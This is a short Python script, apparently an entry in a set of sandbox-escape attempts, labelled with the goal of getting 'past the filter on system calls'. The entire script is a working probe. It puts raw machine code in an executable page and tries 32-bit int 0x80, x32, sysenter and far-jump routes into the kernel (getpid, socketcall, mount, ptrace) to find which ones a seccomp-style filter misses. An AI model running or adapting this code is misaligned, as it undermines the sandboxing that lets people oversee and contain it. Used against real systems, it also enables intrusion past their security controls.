# kind = "escape"
# goal = "past the filter on system calls"
# trick = "the 32-bit and the x32 way into the kernel, in machine code"
# mark = 0
# %%
import ctypes, mmap, os
page = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
address = ctypes.addressof(ctypes.c_char.from_buffer(page))
ways = {
    "int 0x80 getpid": "53 b814000000 cd80 5b c3",
    "int 0x80 socketcall": "53 b866000000 bb01000000 31c9 cd80 5b c3",
    "int 0x80 mount": "53 b815000000 31db 31c9 31d2 cd80 5b c3",
    "x32 getpid": "b827000040 0f05 c3",
    "x32 ptrace": "b809020040 31ff 0f05 c3",
    "sysenter": "b814000000 0f34 c3",
    "far jump to 32-bit code": "6a23 488d0503000000 50 48cb b814000000 cd80 c3",
}
found = []
for name, code in ways.items():
    page.seek(0)
    page.write(bytes.fromhex(code))
    child = os.fork()
    if child == 0:
        ctypes.CFUNCTYPE(ctypes.c_int)(address)()
        os._exit(0)
    status = os.waitpid(child, 0)[1]
    if not os.WIFSIGNALED(status):
        found.append((name, status))
print("FOUND:", found)
